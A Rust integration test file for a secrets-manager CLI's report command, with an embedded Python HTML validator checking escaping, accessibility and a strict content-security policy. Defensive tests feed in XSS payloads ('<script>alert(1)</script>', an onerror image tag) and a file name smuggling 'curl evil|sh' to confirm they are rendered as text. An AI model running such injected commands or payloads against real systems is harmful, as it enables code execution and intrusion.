//! `report`: the store's state as a page, as JSON and in lines. Python's parser reads the page, which has to be what its reader thinks it is.

use std::collections::BTreeSet;
use std::fs;
use std::os::unix::fs::PermissionsExt as _;
use std::time::{Duration, Instant};

use serde_json::Value;

use crate::rotation::{SECRET, begin_and_push};
use crate::support::{CANARY, World};
use crate::team::Team;

/// Reads a page from standard input, says what is wrong with it, and prints its text and its identifiers.
const CHECK: &str = r##"
import html.parser, json, sys
void = {"meta", "br", "hr", "img", "input", "link"}
allowed = {"html", "head", "meta", "title", "style", "body", "header", "nav", "main", "footer", "section", "h1", "h2", "h3", "p", "ul", "li",
           "a", "b", "code", "dl", "dt", "dd", "div", "span", "table", "caption", "thead", "tbody", "tr", "th", "td", "time", "figure",
           "figcaption", "svg", "g", "rect", "text", "desc"}
class Page(html.parser.HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.open, self.ids, self.links, self.wrong, self.text, self.heads, self.level, self.labels = [], [], [], [], [], [], 0, []
        self.metas, self.named = {}, []
    def handle_starttag(self, tag, attributes):
        a = dict(attributes)
        if len(a) != len(attributes): self.wrong.append(f"{tag} says one thing twice")
        if tag not in allowed: self.wrong.append(f"a <{tag}>")
        for name, value in a.items():
            if name.startswith("on") or name in ("style", "src", "srcset", "action", "data"): self.wrong.append(f"{tag} with {name}")
            if name == "href" and not value.startswith("#"): self.wrong.append(f"a link to {value}")
        if "id" in a: self.ids.append(a["id"])
        if "href" in a: self.links.append(a["href"][1:])
        for one in a.get("aria-labelledby", "").split(): self.links.append(one)
        if tag == "meta": self.metas[a.get("name") or a.get("http-equiv") or "charset"] = a.get("content") or a.get("charset")
        if tag == "html" and a.get("lang") != "en": self.wrong.append("no language")
        if tag in ("h1", "h2", "h3"):
            level = int(tag[1])
            if level > self.level + 1: self.wrong.append(f"a heading is left out before {tag}")
            self.level = level; self.heads.append(tag)
        if tag == "th" and a.get("scope") not in ("col", "row"): self.wrong.append("a heading cell without scope")
        if tag == "table" and not any(t == "div" for t in self.open[-1:]): self.wrong.append("a table outside its region")
        if tag == "div" and a.get("role") == "region":
            if a.get("tabindex") != "0" or not a.get("aria-label"): self.wrong.append("a region that no keyboard reaches")
            self.labels.append(a.get("aria-label"))
        if tag == "thead" and "caption" not in self.named[-1:]: self.wrong.append("a table without caption")
        if tag == "svg" and a.get("role") != "img" and a.get("aria-hidden") != "true": self.wrong.append("a picture without words")
        if tag in ("caption", "table"): self.named.append(tag)
        if tag not in void: self.open.append(tag)
    def handle_endtag(self, tag):
        if not self.open or self.open.pop() != tag: self.wrong.append(f"</{tag}> closes something else")
    def handle_comment(self, data): self.wrong.append("a comment")
    def handle_data(self, data):
        if self.open[-1:] != ["style"]: self.text.append(data)
page = Page()
page.feed(sys.stdin.buffer.read().decode("utf-8", "strict")); page.close()
wrong = page.wrong
if page.open: wrong.append(f"left open: {page.open}")
if page.heads.count("h1") != 1: wrong.append("not one h1")
for what, all in (("identifiers", page.ids), ("labels of regions", page.labels)):
    if len(all) != len(set(all)): wrong.append(f"{what} twice: {sorted(one for one in set(all) if all.count(one) > 1)}")
wrong += [f"a link to nothing: {link}" for link in page.links if link not in page.ids]
print(json.dumps({"wrong": wrong, "text": " ".join(" ".join(page.text).split()), "metas": page.metas, "labels": page.labels}))
"##;

/// What Python makes of a page, after it was found to be in order.
fn read(world: &World, page: &str) -> Value {
    let mut command = world.command("python3");
    command.args(["-c", CHECK]);
    let run = World::run_command(command, page.as_bytes());
    assert_eq!(run.code, 0, "{}", run.err);
    let read: Value = serde_json::from_str(&run.out).unwrap();
    assert_eq!(read["wrong"], serde_json::json!([]), "{page}");
    read
}

fn text(read: &Value) -> &str {
    read["text"].as_str().unwrap()
}

/// A team with something of everything in its report.
fn busy() -> Team {
    let team = Team::with_secrets(&[("production/DATABASE_URL", CANARY), ("staging/user-api/KEY", "key")]);
    let alice = &team.alice;
    alice.ok(&["create", "production/TOKEN", "a", "--expires-in", "20d", "--metadata", "owner=sre@example.com"]);
    alice.ok(&["create", "production/OLD", "b", "--expires-in", "400d"]);
    for (name, roles) in [("bob", "devops"), ("carol", ""), ("dora", "")] {
        team.joins(name, roles);
    }
    team.rules(
        r#"{"secrets": {"production/*": {"read": ["admins", "bob"], "write": ["admins"], "delete": [], "max_grant": "9d"}}}"#,
    );
    alice.ok(&["members:remove", "bob", "--yes"]);
    alice.ok(&["access:acknowledge", "production/OLD", "--reason", "it goes", "--until", "2099-06-30"]);
    alice.ok(&[
        "grant-access",
        "staging/user-api/KEY",
        "--user",
        "carol",
        "--duration",
        "1s",
        "--reason",
        "one second",
    ]);
    alice.ok(&["grant-access", "production/TOKEN", "--user", "dora", "--duration", "3d", "--reason", "three days"]);
    fs::write(alice.file("notes.txt"), CANARY).unwrap();
    std::thread::sleep(Duration::from_secs(2));
    team
}

#[test]
fn the_page_says_what_json_says_and_needs_no_key() {
    let team = busy();
    let alice = &team.alice;
    fs::rename(alice.identity(), alice.home.join("away")).unwrap();
    // One run for both, as they name the second they were made in.
    let json = alice.json(&["report", "--html", "report.html"]);
    let page = fs::read_to_string(alice.project.join("report.html")).unwrap();
    let read = read(alice, &page);
    let text = text(&read);
    let tally = &json["tally"];
    for (key, expected) in [
        ("secrets", 4),
        ("members", 3),
        ("open_debts", 3),
        ("acknowledged_debts", 1),
        ("expired", 0),
        ("expiring", 1),
        ("no_expiry", 2),
        ("grants", 1),
        ("overdue_grants", 1),
        ("pending", 1),
        ("errors", 1),
        ("warnings", 2),
    ] {
        assert_eq!(tally[key], expected, "{key}: {json:#}");
    }
    for (count, name) in [
        (&tally["secrets"], "secrets"),
        (&tally["open_debts"], "open debt"),
        (&tally["expiring"], "expire soon"),
        (&tally["overdue_grants"], "overdue grants"),
        (&tally["no_expiry"], "without expiry"),
        (&tally["pending"], "to encrypt anew"),
    ] {
        assert!(text.contains(&format!("{count} {name}")), "{count} {name}: {text}");
    }
    let mut told: Vec<String> = Vec::new();
    let mut all = |list: &str, keys: &[&str]| {
        let list = json[list].as_array().unwrap();
        assert!(!list.is_empty(), "{list:?}");
        told.extend(list.iter().flat_map(|it| keys.iter().map(|key| it[*key].as_str().unwrap_or_default().to_owned())));
    };
    all("secrets", &["path", "owner"]);
    all("members", &["member", "email"]);
    all("rules", &["pattern"]);
    all("grants", &["path", "grantee", "reason"]);
    all("debts", &["path"]);
    all("pending", &["path"]);
    for finding in json["verification"]["findings"].as_array().unwrap() {
        told.extend(["message", "file"].map(|key| finding[key].as_str().unwrap().to_owned()));
    }
    for deadline in json["deadlines"].as_array().unwrap() {
        told.push(deadline["at"].as_str().unwrap()[..10].to_owned());
    }
    told.extend(["store_id", "commit", "at", "program"].map(|key| json[key].as_str().unwrap().to_owned()));
    told.extend(["it goes", "bob", "vsecure access:expire"].map(ToOwned::to_owned));
    for what in told {
        assert!(text.contains(&what), "{what}: {text}");
    }
    let csp = read["metas"]["Content-Security-Policy"].as_str().unwrap();
    assert!(csp.starts_with("default-src 'none'; style-src 'sha256-") && !csp.contains("unsafe"), "{csp}");
    let lines = alice.ok(&["report"]);
    assert!(lines.contains("debt        3 open, 1 acknowledged\n"), "{lines}");
    for shown in [&page, &json.to_string(), &lines] {
        assert!(!shown.contains(CANARY), "{shown}");
    }
}

#[test]
fn the_style_sheet_is_the_one_that_the_policy_allows() {
    let world = World::with_secrets(&[("production/A", "1")]);
    let page = world.ok(&["report", "--html", "-"]);
    let style = page.split("<style>").nth(1).unwrap().split("</style>").next().unwrap();
    fs::write(world.home.join("style"), style).unwrap();
    let hash = world.sh("openssl dgst -sha256 -binary ../home/style | openssl base64 -A");
    assert!(
        page.contains(&format!("style-src &#39;sha256-{hash}&#39;"))
            || page.contains(&format!("style-src 'sha256-{hash}'"))
    );
}

#[test]
fn a_rotation_that_was_begun_waits_in_every_clone_and_is_no_longer_there_when_it_ended() {
    let team = Team::with_secrets(&[(SECRET, CANARY)]);
    let alice = &team.alice;
    begin_and_push(alice);
    // A clone that has no key, and knows nothing of a step that failed.
    let ci = team.clone_of("ci");
    assert!(!ci.identity().exists());
    for world in [alice, &ci] {
        let json = world.json(&["report"]);
        let [begun] = &json["begun"].as_array().unwrap()[..] else { panic!("{json:#}") };
        assert_eq!((&begun["path"], &begun["version"], &begun["author"]), (&SECRET.into(), &2.into(), &"alice".into()));
        assert_eq!((&begun["who"], &json["tally"]["begun"]), (&serde_json::json!(["alice"]), &1.into()));
        let since = begun["since"].as_str().unwrap();
        assert!(json["secrets"][0]["updated_at"].as_str().unwrap() <= since, "{json:#}");
        let page = world.ok(&["report", "--html", "-"]);
        let read = read(world, &page);
        for what in
            ["1 rotation begun", &format!("vsecure rotation:run {SECRET} goes on"), &since[..10], "ago, by alice"]
        {
            assert!(text(&read).contains(what), "{what}: {}", text(&read));
        }
        assert!(!page.contains(CANARY) && world.ok(&["report"]).contains("0 to encrypt anew, 1 rotation begun,"));
    }
    fs::remove_file(alice.project.join("fail")).unwrap();
    alice.ok(&["rotation:run", SECRET]);
    let json = alice.json(&["report"]);
    assert_eq!((&json["begun"], &json["tally"]["begun"]), (&serde_json::json!([]), &0.into()));
}

#[test]
fn what_a_repository_says_stays_text() {
    const SCRIPT: &str = "</code><script>alert(1)</script><img src=x onerror=alert(1)>";
    const TURNED: &str = "\"'&amp; \u{202e}turned\u{200b}";
    let world = World::with_store();
    let owner = format!("owner={SCRIPT}{TURNED}");
    world.ok(&["create", "production/A", "1", "--expires-in", "5d", "--metadata", &owner]);
    world.ok(&[
        "grant-access",
        "production/A",
        "--ephemeral",
        "--user",
        SCRIPT,
        "--duration",
        "1d",
        "--reason",
        TURNED,
    ]);
    fs::write(world.file("<img src=x onerror=alert(1)>\u{202e}"), "x").unwrap();
    world.git(&["checkout", "-q", "-b", "<b>branch\"'"]);
    let page = world.ok(&["report", "--html", "-"]);
    let read = read(&world, &page);
    let text = text(&read);
    assert_eq!(text.matches(SCRIPT).count(), 3, "of the calendar, the oldest, the grant: {text}");
    assert!(text.contains("\"'&amp; \\u{202e}turned\\u{200b}") && text.contains("<b>branch\"'"), "{text}");
    assert!(text.contains("<img src=x onerror=alert(1)>\\u{202e}"), "{text}");
    assert!(!page.contains(['\u{202e}', '\u{200b}']) && !page.contains("<script") && !page.contains("<img"), "{page}");
}

#[test]
fn the_name_of_a_file_has_no_word_in_what_somebody_types() {
    let world = World::with_store();
    fs::create_dir_all(world.file("secrets/production")).unwrap();
    fs::write(world.file("secrets/production/x;curl evil|sh;.age"), "x").unwrap();
    let page = world.ok(&["report", "--html", "-"]);
    let read = read(&world, &page);
    let (found, helps) = text(&read).split_once("What helps").unwrap().1.split_once("git log -- ").unwrap();
    assert!(found.contains("curl evil|sh") && !helps.contains("curl"), "{helps}");
}

#[test]
fn a_page_is_private_and_never_overwritten_unasked() {
    let world = World::with_secrets(&[("production/A", CANARY)]);
    world.ok(&["report", "--html", "report.html"]);
    let file = world.project.join("report.html");
    assert_eq!(fs::metadata(&file).unwrap().permissions().mode() & 0o777, 0o600);
    assert!(world.refused(5, &["report", "--html", "report.html"]).contains("--force"));
    fs::write(&file, "old").unwrap();
    let json = world.json(&["report", "--html", "report.html", "--force"]);
    assert_eq!(json["tally"]["secrets"], 1);
    read(&world, &fs::read_to_string(&file).unwrap());
    world.refused(2, &["report", "--force"]);
    assert_eq!(world.run(&["report", "--html", "-", "--json"]).code, 2);
    world.refused(3, &["report", "--env", "prod", "--html", "other.html"]);
    assert!(!world.project.join("other.html").exists());
    assert_eq!(world.git(&["log", "--oneline"]).lines().count(), 2, "it commits nothing");
}

#[test]
fn a_store_that_nobody_vouched_for_has_no_report() {
    let team = Team::with_secrets(&[("production/A", CANARY)]);
    let stranger = World::of("mallory");
    stranger.git(&["clone", "-q", team.alice.project.to_str().unwrap(), "."]);
    stranger.refused(6, &["report", "--html", "report.html"]);
    stranger.ok(&["--store-id", &team.store_id, "report", "--html", "report.html"]);
}

#[test]
fn a_part_of_the_store_is_said_to_be_one() {
    let world = World::with_secrets(&[("production/user-api/A", "1"), ("production/B", "2"), ("staging/A", "3")]);
    for (selectors, expected) in [
        (&["--env", "production"][..], vec!["production/B", "production/user-api/A"]),
        (&["--under", "user-api"], vec!["production/user-api/A"]),
        (&["--except", "production/*"], vec!["staging/A"]),
        (&["--only", "A,B", "--env", "staging"], vec!["staging/A"]),
    ] {
        let json = world.json(&[&["report"], selectors].concat());
        let paths: Vec<&str> =
            json["secrets"].as_array().unwrap().iter().map(|it| it["path"].as_str().unwrap()).collect();
        assert_eq!(paths, expected, "{selectors:?}");
        let page = world.ok(&[&["report", "--html", "-"], selectors].concat());
        let scope: Vec<&str> = json["scope"].as_array().unwrap().iter().map(|it| it.as_str().unwrap()).collect();
        assert!(text(&read(&world, &page)).contains(&format!("Only {}", scope.join(" "))), "{page}");
    }
    let mut command = world.command("vsecure");
    command.args(["report", "--json"]).env("VSECURE_ENV", "staging");
    let run = World::run_command(command, b"");
    assert!(run.out.contains("production/B"), "what is left out is said on the command line only");
}

#[test]
fn an_empty_store_has_a_page() {
    let world = World::with_store();
    let page = world.ok(&["report", "--html", "-"]);
    let read = read(&world, &page);
    for what in ["There are no secrets", "Nobody knows a live value", "0 findings"] {
        assert!(text(&read).contains(what), "{what}");
    }
    let folder = World::of("bob");
    folder.refused(3, &["report"]);
}

#[test]
fn ten_thousand_secrets_make_a_page_that_has_an_end() {
    let world = World::with_store();
    let names: String = (0..10_000).map(|number| format!("KEY_{number}=value\n")).collect();
    fs::write(world.project.join("all.env"), names).unwrap();
    world.ok(&["import", "all.env", "--env", "production", "--quiet"]);
    let began = Instant::now();
    let page = world.ok(&["report", "--html", "-", "--quiet"]);
    let took = began.elapsed();
    assert!(page.len() < 200_000, "{} bytes", page.len());
    assert!(took < Duration::from_secs(120), "{took:?}");
    let read = read(&world, &page);
    assert!(text(&read).contains("10000 secrets") && text(&read).contains("9970 more are not shown here"), "{page}");
    let labels: BTreeSet<&str> = read["labels"].as_array().unwrap().iter().map(|it| it.as_str().unwrap()).collect();
    assert!(labels.contains("The oldest values"), "{labels:?}");
}
